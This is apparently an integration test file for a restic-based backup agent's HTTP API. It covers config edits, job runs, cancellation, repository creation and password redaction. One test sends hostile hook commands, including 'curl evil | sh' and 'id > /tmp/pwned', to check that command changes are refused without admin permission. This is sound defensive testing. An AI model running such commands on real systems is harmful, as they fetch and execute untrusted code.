/**
 * The HTTP API against the REAL agent (src/app.ts startAgent): real PostgreSQL (and PGlite), real
 * restic 0.14 on a temp repository whose password is the C13 one. Covers every endpoint's success
 * and error paths and checks that no response body and no log line contains the password.
 */
import { execFileSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import fs from 'node:fs';
import http from 'node:http';
import os from 'node:os';
import path from 'node:path';
import { Writable } from 'node:stream';
import { pino } from 'pino';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startAgent, type Agent } from '../../src/app.js';
import { REDACTED } from '../../src/api/config-schema.js';
import { parseLocalConfig } from '../../src/config/local-config.js';
import {
  addJob,
  addRepository,
  addSchedule,
  migrate,
  openDatabase,
  removeSetting,
  setSetting,
  upsertDevice,
} from '../../src/db/index.js';
import { createTempPgDatabase } from '../helpers/databases.js';
import { waitFor } from '../helpers/wait.js';
import { authHeader } from '../helpers/agent-auth.js';

const PASSWORD = 'pa$$ w0rd"\'`;#';
const DEVICE = 'real-agent-test';
const UNKNOWN_JOB = '00000000-0000-4000-8000-000000000000';

interface Reply {
  status: number;
  text: string;
  // eslint-disable-next-line @typescript-eslint/no-explicit-any
  json: any;
}

/** One SSE stream: every `event:`/`data:` pair received so far. */
interface EventStream {
  // eslint-disable-next-line @typescript-eslint/no-explicit-any
  events: { event: string; data: any }[];
  close(): void;
}

for (const kind of ['postgres', 'pglite'] as const) {
  describe(`API on the real agent [${kind}]`, () => {
    let agent: Agent;
    let port = 0;
    let tmp = '';
    let dropDb: (() => Promise<void>) | null = null;
    let repoDir = '';
    let smallJob = '';
    let slowJob = '';
    let stream: EventStream;
    let auth: Record<string, string> = {};
    const bodies: string[] = [];
    const logs: string[] = [];

    const request = (method: string, p: string, body?: unknown): Promise<Reply> =>
      new Promise((resolve, reject) => {
        const payload = body === undefined ? (method === 'POST' ? '{}' : undefined) : JSON.stringify(body);
        const headers: Record<string, string> =
          payload === undefined
            ? { ...auth }
            : { ...auth, 'content-type': 'application/json', 'content-length': String(Buffer.byteLength(payload)) };
        const req = http.request({ host: '127.0.0.1', port, method, path: p, headers, agent: false }, (res) => {
          const chunks: Buffer[] = [];
          res.on('data', (c: Buffer) => chunks.push(c));
          res.on('end', () => {
            const text = Buffer.concat(chunks).toString('utf8');
            bodies.push(text);
            let json: unknown;
            try {
              json = JSON.parse(text);
            } catch {
              /* plain text */
            }
            resolve({ status: res.statusCode ?? 0, text, json });
          });
        });
        req.on('error', reject);
        if (payload !== undefined) req.write(payload);
        req.end();
      });

    const openEvents = (): Promise<EventStream> =>
      new Promise((resolve, reject) => {
        const events: EventStream['events'] = [];
        const req = http.get({ host: '127.0.0.1', port, path: '/events', agent: false, headers: auth }, (res) => {
          let buf = '';
          res.setEncoding('utf8');
          res.on('data', (c: string) => {
            buf += c;
            bodies.push(c);
            for (let i = buf.indexOf('\n\n'); i >= 0; i = buf.indexOf('\n\n')) {
              const block = buf.slice(0, i);
              buf = buf.slice(i + 2);
              const event = /^event: (.*)$/m.exec(block)?.[1];
              const data = /^data: (.*)$/m.exec(block)?.[1];
              if (event && data) events.push({ event, data: JSON.parse(data) });
            }
          });
          res.on('error', () => {
            /* closed by the test */
          });
          resolve({ events, close: () => req.destroy() });
        });
        req.on('error', reject);
      });

    const runOf = async (runId: number) => (await request('GET', `/runs/${runId}`)).json;

    beforeAll(async () => {
      tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'rbackup2-real-agent-'));
      repoDir = path.join(tmp, 'repo');
      execFileSync('restic', ['init', '--repo', repoDir], {
        env: { ...process.env, RESTIC_PASSWORD: PASSWORD },
        stdio: 'pipe',
      });
      const small = path.join(tmp, 'small source');
      fs.mkdirSync(small);
      for (let i = 0; i < 5; i++) fs.writeFileSync(path.join(small, `soubor ${i}.txt`), `obsah ${i}\n`.repeat(500));
      // restic 0.14 needs ~1.5 s per 160 MB of random data here: long enough to trigger twice and cancel
      const big = path.join(tmp, 'big source');
      fs.mkdirSync(big);
      for (let f = 0; f < 2; f++) {
        const fd = fs.openSync(path.join(big, `r${f}.bin`), 'w');
        for (let i = 0; i < 40; i++) fs.writeSync(fd, randomBytes(4 * 1024 * 1024));
        fs.closeSync(fd);
      }

      let dbYaml = '';
      if (kind === 'postgres') {
        const pgdb = await createTempPgDatabase();
        dropDb = pgdb.drop;
        dbYaml = `database:\n  url: "${pgdb.url}"\n`;
      }
      const yaml = `device:\n  id: ${DEVICE}\n  name: Real agent\n${dbYaml}client:\n  http_bind: "127.0.0.1:0"\n  data_dir: "${path.join(tmp, 'data')}"\n  log_file: "${path.join(tmp, 'data', 'agent.log')}"\n  shutdown_timeout_seconds: 5\n`;
      const local = parseLocalConfig(yaml, path.join(tmp, 'config.yaml'), {});

      // Seed the database the agent will open: device, repository (C13 password), two jobs.
      const seed = await openDatabase({ database: local.database, dataDir: local.dataDir });
      try {
        await migrate(seed);
        await upsertDevice(seed, { id: DEVICE, name: 'Real agent' });
        const repo = await addRepository(seed, { name: 'temp repo', url: repoDir, password: PASSWORD });
        smallJob = (
          await addJob(seed, {
            deviceId: DEVICE,
            name: 'Small',
            sourcePaths: [small],
            repositoryId: repo.id,
            tags: ['api-test'],
          })
        ).id;
        await addSchedule(seed, {
          jobId: smallJob,
          type: 'cron',
          cronExpression: '0 3 * * *',
          timezone: 'Europe/Prague',
          catchUp: false,
        });
        slowJob = (await addJob(seed, { deviceId: DEVICE, name: 'Slow', sourcePaths: [big], repositoryId: repo.id }))
          .id;
      } finally {
        await seed.close();
      }

      const sink = new Writable({
        write(chunk, _enc, cb) {
          if (logs.length < 20_000) logs.push(String(chunk));
          cb();
        },
      });
      agent = await startAgent({ local, logger: pino({ level: 'debug' }, sink) });
      port = Number(new URL(agent.url ?? '').port);
      auth = authHeader(path.join(tmp, 'data'));
      stream = await openEvents();
    }, 120_000);

    afterAll(async () => {
      stream?.close();
      await agent?.stop('test done');
      await dropDb?.();
      fs.rmSync(tmp, { recursive: true, force: true });
      // C13: the repository password is in no response body, SSE chunk or log line of this block.
      expect(bodies.length).toBeGreaterThan(15);
      expect(logs.length).toBeGreaterThan(5);
      for (const b of [...bodies, ...logs]) expect(b).not.toContain(PASSWORD);
    }, 60_000);

    it('GET /health and GET /status describe the running agent and its jobs', async () => {
      const health = await request('GET', '/health');
      expect([health.status, health.text]).toEqual([200, 'OK']);
      const s = await request('GET', '/status');
      expect(s.status).toBe(200);
      expect(s.json.device).toMatchObject({
        id: DEVICE,
        name: 'Real agent',
        resticVersion: expect.stringMatching(/^0\.14/),
      });
      expect(s.json.database).toMatchObject({ kind, connected: true, usingCachedConfig: false });
      expect(s.json.restic).toMatchObject({ ok: true });
      expect(s.json.jobs.map((j: { name: string }) => j.name).sort()).toEqual(['Slow', 'Small']);
      const small = s.json.jobs.find((j: { id: string }) => j.id === smallJob);
      expect(small).toMatchObject({ enabled: true, running: false, lastRun: null, invalidReason: null });
      expect(Date.parse(small.nextRunAt)).toBeGreaterThan(Date.now());
    });

    it('C13 GET /config shows jobs in snake_case with the repository password redacted', async () => {
      const r = await request('GET', '/config');
      expect(r.status).toBe(200);
      expect(r.json.device).toEqual({ id: DEVICE, name: 'Real agent' });
      const small = r.json.jobs.find((j: { id: string }) => j.id === smallJob);
      expect(small).toMatchObject({
        name: 'Small',
        tags: ['api-test'],
        schedules: [expect.objectContaining({ schedule_type: 'cron', cron_expression: '0 3 * * *' })],
        hooks: [],
      });
      expect(r.json.repositories).toEqual([
        expect.objectContaining({ name: 'temp repo', url: repoDir, password: REDACTED }),
      ]);
      expect(r.text).not.toContain(PASSWORD);
    });

    it('POST /config creates a job (applied at once) and answers 400 naming bad fields', async () => {
      const ok = await request('POST', '/config', {
        jobs: [
          {
            name: 'Created by API',
            source_paths: [tmp],
            schedules: [{ schedule_type: 'cron', cron_expression: '15 4 * * 1' }],
          },
        ],
      });
      expect(ok.status).toBe(200);
      const created = ok.json.config.jobs.find((j: { name: string }) => j.name === 'Created by API');
      expect(created.schedules).toHaveLength(1);
      const status = await request('GET', '/status');
      expect(status.json.jobs.map((j: { name: string }) => j.name)).toContain('Created by API'); // scheduler reloaded
      const next = await request('GET', `/jobs/${created.id}/next-runs?n=2`);
      expect(next.json.nextRuns).toHaveLength(2);

      const bad = await request('POST', '/config', {
        jobs: [
          { id: UNKNOWN_JOB, enabled: false },
          { name: 'Small', source_paths: ['/x'] },
          {
            name: 'Bad cron',
            source_paths: ['/x'],
            schedules: [{ schedule_type: 'cron', cron_expression: '61 * * * *' }],
          },
        ],
      });
      expect(bad.status).toBe(400);
      expect(bad.json.error.code).toBe('INVALID_INPUT');
      expect(bad.json.error.fields.map((f: { field: string }) => f.field)).toEqual([
        'jobs[2].schedules[0].cron_expression',
      ]);
      const refs = await request('POST', '/config', {
        jobs: [
          { id: UNKNOWN_JOB, enabled: false },
          { name: 'Small', source_paths: ['/x'] },
        ],
        delete_jobs: [UNKNOWN_JOB],
      });
      expect(refs.status).toBe(400);
      expect(refs.json.error.fields.map((f: { field: string }) => f.field).sort()).toEqual([
        'delete_jobs[0]',
        'jobs[0].id',
        'jobs[1].name',
      ]);
      const cleanup = await request('POST', '/config', { delete_jobs: [created.id] });
      expect(cleanup.status).toBe(200);
    });

    it('POST /jobs/:id/run runs restic; GET /runs and /runs/:id show the run; /events sent run.started and run.finished', async () => {
      const r = await request('POST', `/jobs/${smallJob}/run`);
      expect(r.status).toBe(202);
      expect(r.json).toMatchObject({ state: 'started', jobId: smallJob });
      const finished = await waitFor('condition', () =>
        stream.events.find((e) => e.event === 'run.finished' && e.data.jobId === smallJob),
      );
      expect(finished.data).toMatchObject({
        status: 'success',
        jobName: 'Small',
        snapshotId: expect.stringMatching(/^[0-9a-f]{8,64}$/),
      });
      expect(stream.events.find((e) => e.event === 'run.started' && e.data.jobId === smallJob)?.data).toMatchObject({
        runId: finished.data.runId,
        triggeredBy: 'manual',
      });
      const runs = await request('GET', `/runs?limit=5&job_id=${smallJob}`);
      expect(runs.status).toBe(200);
      expect(runs.json.runs[0]).toMatchObject({
        id: finished.data.runId,
        status: 'success',
        triggeredBy: 'manual',
        totalFilesProcessed: 5,
        exitCode: 0,
      });
      const detail = await request('GET', `/runs/${finished.data.runId}`);
      expect(detail.status).toBe(200);
      expect(detail.json).toMatchObject({
        id: finished.data.runId,
        snapshotId: finished.data.snapshotId,
        unreadablePaths: [],
      });
      const snaps = execFileSync('restic', ['snapshots', '--json', '--repo', repoDir], {
        env: { ...process.env, RESTIC_PASSWORD: PASSWORD },
      }).toString();
      expect(snaps).toContain(`backup:${smallJob}`);
      expect((await request('GET', '/runs/999999')).status).toBe(404);
      expect((await request('GET', '/runs?limit=0')).status).toBe(400);
    });

    it('a second trigger while running is 409; POST /runs/:id/cancel cancels restic (202), then 409; unknown run/job 404', async () => {
      const first = await request('POST', `/jobs/${slowJob}/run`);
      expect(first.status).toBe(202);
      const again = await request('POST', `/jobs/${slowJob}/run`);
      expect(again.status).toBe(409);
      expect(again.json.error.code).toBe('CONFLICT');
      const started = await waitFor('condition', () =>
        stream.events.find((e) => e.event === 'run.started' && e.data.jobId === slowJob && e.data.runId),
      );
      const runId = started.data.runId as number;
      expect((await runOf(runId)).status).toBe('running');
      await waitFor('condition', () => fs.readdirSync(path.join(repoDir, 'locks')).length > 0); // restic itself is running
      const cancel = await request('POST', `/runs/${runId}/cancel`);
      expect(cancel.status).toBe(202);
      expect(cancel.json).toEqual({ runId, cancelling: true });
      const done = await waitFor(
        'condition',
        () => stream.events.find((e) => e.event === 'run.finished' && e.data.runId === runId),
        40_000,
      );
      expect(done.data.status).toBe('cancelled');
      expect((await runOf(runId)).status).toBe('cancelled');
      const late = await request('POST', `/runs/${runId}/cancel`);
      expect(late.status).toBe(409);
      expect((await request('POST', '/runs/999999/cancel')).status).toBe(404);
      expect((await request('POST', `/jobs/${UNKNOWN_JOB}/run`)).status).toBe(404);
      expect((await request('GET', `/jobs/${UNKNOWN_JOB}/next-runs`)).status).toBe(404);
    });

    it('C36 a hook or restic_args through POST /config is 403 naming the field (config unchanged) until the admin sets allow_local_command_changes', async () => {
      const before = JSON.stringify((await request('GET', '/config')).json.jobs);
      const hook = { jobs: [{ id: smallJob, hooks: [{ command: 'id > /tmp/pwned', timing: 'start' }] }] };
      const args = { jobs: [{ id: smallJob, restic_args: ['--exclude-caches'] }] };
      const newJobWithHook = {
        jobs: [{ name: 'Evil', source_paths: ['/'], hooks: [{ command: 'curl evil | sh', timing: 'end' }] }],
      };
      const cases: [unknown, string][] = [
        [hook, 'jobs[0].hooks[0]'],
        [args, 'jobs[0].restic_args'],
        [newJobWithHook, 'jobs[0].hooks[0]'],
        [{ settings: { repository_url: '/tmp/elsewhere' } }, 'settings.repository_url'],
        [{ settings: { allow_local_command_changes: 'true' } }, 'settings.allow_local_command_changes'],
        [{ settings: { ui_password_hash: 'scrypt$1' } }, 'settings.ui_password_hash'],
      ];
      for (const [body, field] of cases) {
        const r = await request('POST', '/config', body);
        expect(r.status, field).toBe(403);
        expect(r.json.error.code).toBe('FORBIDDEN');
        expect(r.json.error.message).toContain(field);
        expect(r.json.error.fields.map((f: { field: string }) => f.field)).toContain(field);
      }
      expect(JSON.stringify((await request('GET', '/config')).json.jobs)).toBe(before);
      // Sending restic_args back unchanged (a full job edit) is no change.
      expect((await request('POST', '/config', { jobs: [{ id: smallJob, restic_args: [] }] })).status).toBe(200);

      await setSetting(agent.db, { deviceId: null, key: 'allow_local_command_changes', value: 'true' });
      try {
        expect((await request('POST', '/config', hook)).status).toBe(200);
        expect((await request('POST', '/config', args)).status).toBe(200);
        const job = (await request('GET', '/config')).json.jobs.find((j: { id: string }) => j.id === smallJob);
        expect(job.restic_args).toEqual(['--exclude-caches']);
        expect(job.hooks.map((h: { command: string }) => h.command)).toEqual(['id > /tmp/pwned']);
        // the guard of the guard stays admin-only
        expect((await request('POST', '/config', { settings: { allow_local_command_changes: 'false' } })).status).toBe(
          403,
        );
        const cleanup = {
          jobs: [{ id: smallJob, restic_args: [] }],
          delete_hooks: job.hooks.map((h: { id: number }) => h.id),
        };
        expect((await request('POST', '/config', cleanup)).status).toBe(200);
      } finally {
        await removeSetting(agent.db, null, 'allow_local_command_changes');
      }
      expect((await request('POST', '/config', hook)).status).toBe(403);
    });

    it('issue 16: settings are checked in one place: a bad value or an unknown key is 400 naming it; a SQL-edited bad value is reported by GET /status', async () => {
      const zero = await request('POST', '/config', { settings: { max_concurrent_backups: '0' } });
      expect(zero.status).toBe(400);
      expect(zero.json.error.fields).toEqual([
        {
          field: 'settings.max_concurrent_backups',
          message: 'setting max_concurrent_backups must be a whole number from 1 to 64 (got "0")',
        },
      ]);
      const typo = await request('POST', '/config', { settings: { max_concurent_backups: '2' } });
      expect(typo.status).toBe(400);
      expect(typo.json.error.fields[0].field).toBe('settings.max_concurent_backups');
      expect(typo.json.error.fields[0].message).toMatch(
        /^unknown setting "max_concurent_backups"; known settings: .*max_concurrent_backups/,
      );
      const removeTypo = await request('POST', '/config', { settings: { max_concurent_backups: null } });
      expect(removeTypo.status).toBe(400);
      expect((await request('GET', '/config')).json.settings).not.toHaveProperty('max_concurent_backups');
      expect((await request('POST', '/config', { settings: { max_concurrent_backups: '2' } })).status).toBe(200);
      expect((await request('POST', '/config', { settings: { max_concurrent_backups: null } })).status).toBe(200);

      // Written by SQL, past every check: reported, with what is used instead.
      await setSetting(agent.db, { deviceId: DEVICE, key: 'retry_delay_seconds', value: 'ten minutes' });
      await setSetting(agent.db, { deviceId: DEVICE, key: 'retry_dealy_seconds', value: '60' });
      try {
        expect((await request('POST', '/config', {})).status).toBe(200); // applies the database's config now
        expect((await request('GET', '/status')).json.settingProblems).toEqual([
          'setting in the database: setting retry_delay_seconds must be a whole number from 1 to 86400 (got "ten minutes"); the default 600 is used',
          expect.stringMatching(
            /^setting in the database: unknown setting "retry_dealy_seconds"; known settings: .*; it is ignored$/,
          ),
        ]);
      } finally {
        await removeSetting(agent.db, DEVICE, 'retry_delay_seconds');
        await removeSetting(agent.db, DEVICE, 'retry_dealy_seconds');
      }
      expect((await request('POST', '/config', {})).status).toBe(200);
      expect((await request('GET', '/status')).json.settingProblems).toEqual([]);
    });

    it('issue 16: POST /repositories tests an existing repository, creates a new one with restic init, and refuses what restic refuses (nothing stored)', async () => {
      const ok = await request('POST', '/repositories', {
        name: 'probe',
        url: repoDir,
        password: PASSWORD,
        init: false,
        test_only: true,
      });
      expect(ok.status, JSON.stringify(ok.json)).toBe(200);
      expect(ok.json).toEqual({ id: null, name: 'probe', tested: true });
      const wrong = await request('POST', '/repositories', {
        name: 'probe',
        url: repoDir,
        password: 'nope',
        init: false,
      });
      expect(wrong.status).toBe(400);
      expect(wrong.json.error.fields[0].message).toMatch(
        /^cannot open the repository: .*(wrong password|no key found)/,
      );
      const missing = path.join(tmp, `ui-new-repo-${kind}`);
      const none = await request('POST', '/repositories', { name: 'x', url: missing, password: 'p', init: false });
      expect(none.status).toBe(400);
      expect(none.json.error.fields[0]).toMatchObject({
        field: 'url',
        message: expect.stringMatching(/^cannot open the repository/),
      });
      const relative = await request('POST', '/repositories', { name: 'x', url: 'backups', password: 'p', init: true });
      expect(relative.status).toBe(400);
      expect(relative.json.error.fields[0].message).toMatch(/relative path/);
      const names = (await request('GET', '/config')).json.repositories.map((r: { name: string }) => r.name);
      expect(names).not.toContain('probe');
      expect(names).not.toContain('x');

      const made = await request('POST', '/repositories', {
        name: `new ${kind}`,
        url: missing,
        password: 'new pw',
        init: true,
      });
      expect(made.status, JSON.stringify(made.json)).toBe(200);
      expect(fs.existsSync(path.join(missing, 'config'))).toBe(true);
      const row = (await request('GET', '/config')).json.repositories.find(
        (r: { id: string }) => r.id === made.json.id,
      );
      expect(row).toMatchObject({ name: `new ${kind}`, url: missing, password: REDACTED });
      const again = await request('POST', '/repositories', {
        name: `new ${kind}`,
        url: missing,
        password: 'new pw',
        init: false,
      });
      expect(again.status).toBe(400);
      expect(again.json.error.fields[0]).toEqual({
        field: 'name',
        message: `a repository named "new ${kind}" already exists`,
      });
      // The password never reaches the answer or the log.
      expect(JSON.stringify(made.json)).not.toContain('new pw');
      expect(logs.join('\n')).not.toContain('new pw');
    }, 120_000);

    it('GET /jobs/:id/next-runs lists the cron times in order; n is bounded', async () => {
      const r = await request('GET', `/jobs/${smallJob}/next-runs?n=3`);
      expect(r.status).toBe(200);
      expect(r.json.jobId).toBe(smallJob);
      const times = (r.json.nextRuns as string[]).map((t) => Date.parse(t));
      expect(times).toHaveLength(3);
      expect([...times].sort((a, b) => a - b)).toEqual(times);
      const prague = new Intl.DateTimeFormat('en-GB', {
        timeZone: 'Europe/Prague',
        hour: '2-digit',
        minute: '2-digit',
      });
      expect(times.map((t) => prague.format(t))).toEqual(['03:00', '03:00', '03:00']);
      expect(times[0]!).toBeGreaterThan(Date.now());
      expect((await request('GET', `/jobs/${smallJob}/next-runs?n=0`)).status).toBe(400);
    });
  });
}
